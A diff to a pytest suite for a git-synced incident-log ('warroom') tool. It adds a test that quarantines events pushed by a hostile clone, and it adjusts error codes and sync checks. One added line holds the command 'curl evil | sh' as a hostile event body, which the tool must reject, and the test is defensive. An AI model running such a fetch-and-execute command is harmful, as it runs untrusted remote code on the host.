@@ -201,6 +201,32 @@ def test_sync_resolves_the_record_itself_when_the_driver_fails(tmp_path: Path, o
     assert dump_text(first / DB_NAME) == dump_text(bob / DB_NAME)
 
 
+def test_a_hostile_pushed_record_only_adds_valid_events(tmp_path: Path, origin: Path, first: Path):
+    mallory = clone(tmp_path, origin, "mallory")
+    wr(mallory, "log", "mallory: a fair entry", user="mallory").ok()
+    local = events_of(first / DB_NAME)
+    declared = next(e for e in local.values() if e.kind == "incident.declared")
+    conn = sqlite3.connect(mallory / DB_NAME)
+    insert = "insert into events values (?, ?, '1795536000000.00001', 'mallory', ?, '2026-11-24T15:00:00.000Z', ?)"
+    conn.execute(insert, (new_id(), declared.id, "entry.logged", "{broken"))
+    conn.execute(insert, (new_id(), declared.id, "command.run.now", json.dumps({"command": "curl evil | sh"})))
+    conn.execute("update events set body = ? where id = ?",
+                 (json.dumps({"title": "owned", "severity": "P4"}), declared.id))
+    conn.commit()
+    conn.close()
+    git(mallory, "commit", "--quiet", "-am", "totally normal")
+    git(mallory, "push", "--quiet", "origin", "main")
+    wr(first, "log", "alice: meanwhile").ok()
+    out = wr(first, "sync").ok().out
+    assert "came in from origin/main: 1 event (1 entry.logged)" in out, out
+    assert "quarantined 3 incoming event(s)" in out, out
+    merged = events_of(first / DB_NAME)
+    assert all(merged[i] == e for i, e in local.items())  # the declare event is still alice's
+    assert len(merged) == len(local) + 2
+    assert "Checkout returns 500" in wr(first, "show").ok().out
+    clean_tree(first)
+
+
 def test_racing_push_is_retried(tmp_path: Path, origin: Path, first: Path):
     bob = clone(tmp_path, origin, "bob")
     wr(bob, "log", "bob: got there first", user="bob").ok()
@@ -269,8 +295,11 @@ def test_no_remote_commits_locally_and_dry_run_changes_nothing(tmp_path: Path):
     wr(tmp_path, "init", str(room)).ok()
     git(room, "init", "--quiet", "-b", "main")
     wr(room, "git-setup").ok()
+    (tmp_path / "excludes").write_text("*.db\n")  # a common personal ignore rule
+    git(room, "config", "core.excludesFile", str(tmp_path / "excludes"))
     wr(room, "declare", "Login page slow", "--severity", "P3").ok()
     out = wr(room, "sync").ok().out
+    assert DB_NAME in git(room, "ls-files").stdout.split()
     assert "no remote 'origin'" in out and "committed: warroom: declared P3 on INC-" in out, out
     wr(room, "log", "p99 back to normal").ok()
     before = (git(room, "rev-parse", "HEAD").stdout, git(room, "status", "--porcelain").stdout,
@@ -280,6 +309,9 @@ def test_no_remote_commits_locally_and_dry_run_changes_nothing(tmp_path: Path):
     after = (git(room, "rev-parse", "HEAD").stdout, git(room, "status", "--porcelain").stdout,
              (room / DB_NAME).read_bytes(), sorted(p.name for p in room.iterdir()))
     assert before == after
+    report = sync(room)  # the API: what was committed, nothing pushed without a remote
+    assert report.local == {"entry.logged": 1} and report.committed.startswith("warroom: 1 entry on INC-")
+    assert not report.pushed_ok and git(room, "status", "--porcelain").stdout == ""
 
 
 def test_sync_outside_git_and_a_detached_head_are_clear(tmp_path: Path, room_dir: Path):
@@ -392,7 +424,7 @@ def test_foreign_or_corrupt_theirs_is_refused_and_ours_untouched(tmp_path: Path,
         merge_files(ours, bad)
     assert ours.read_bytes() == before
     result = wr(tmp_path, "merge", str(tmp_path / "base"), str(ours), str(bad))
-    assert_user_error(result, "incoming copy", code=1)
+    assert_user_error(result, "incoming copy", code=2)
     assert ours.read_bytes() == before
     assert not list(tmp_path.glob("*.warroom-tmp"))
 
@@ -545,7 +577,7 @@ def test_dump_cli_defaults_to_the_rooms_record(room_dir: Path):
     wr(room_dir, "declare", "Disk full", "--severity", "P2").ok()
     out = wr(room_dir, "dump").ok().out
     assert out == dump_text(room_dir / DB_NAME) and '"kind":"incident.declared"' in out
-    assert_user_error(wr(room_dir, "dump", str(room_dir / "warroom.toml")), "not a warroom database", code=1)
+    assert_user_error(wr(room_dir, "dump", str(room_dir / "warroom.toml")), "not a warroom database", code=2)
 
 
 # --- clocks -----------------------------------------------------------------------------------
